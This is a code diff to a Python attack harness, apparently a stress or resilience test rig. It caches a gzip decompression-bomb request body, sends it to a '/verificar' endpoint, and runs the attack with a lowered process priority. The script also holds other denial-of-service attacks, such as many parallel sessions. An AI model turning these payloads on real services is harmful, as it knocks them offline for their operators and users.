@@ -8,6 +8,7 @@ after a pause.
 
 import gzip
 import json
+import os
 import random
 import socket
 import sys
@@ -16,6 +17,7 @@ import time
 from collections.abc import Callable, Mapping
 from contextlib import suppress
 from dataclasses import dataclass
+from functools import cache
 from pathlib import Path
 from types import MappingProxyType
 from typing import Final
@@ -31,6 +33,8 @@ from attack_browser import Browser, any_address
 TYPED: Final = {"Content-Type": "application/x-www-form-urlencoded"}
 MIB: Final = 1 << 20
 TRICKLING: Final = 66
+NICENESS: Final = 10
+"""An attacker has a machine of their own, whose time the service does not pay."""
 
 
 @dataclass(frozen=True, slots=True, kw_only=True)
@@ -224,10 +228,14 @@ def _many_sessions(target: Target) -> None:
     browser.ask("GET", "/revision")
 
 
+@cache
+def _packed_body() -> bytes:
+    return gzip.compress(bytes(100 * MIB), 1)[: 200 * 1024]
+
+
 def _packed(target: Target) -> None:
-    body = gzip.compress(b"a" * (100 * MIB), 1)
     headers = {**TYPED, "Content-Encoding": "gzip"}
-    _strange(target).ask("POST", "/verificar", body=body[: 200 * 1024], headers=headers)
+    _strange(target).ask("POST", "/verificar", body=_packed_body(), headers=headers)
 
 
 def _same_form(target: Target) -> None:
@@ -289,7 +297,9 @@ def _repeat(attack: Attack, target: Target, ends_at: float) -> None:
 
 
 def main() -> int:
-    """Attack until the time is over."""
+    """Attack until the time is over, with the processor time that the service leaves."""
+    os.nice(NICENESS)
+    _packed_body()
     attack = ATTACKS[sys.argv[1]]
     target = Target(**json.loads(Path(sys.argv[2]).read_text(encoding="utf-8")))
     ends_at = time.monotonic() + target.seconds
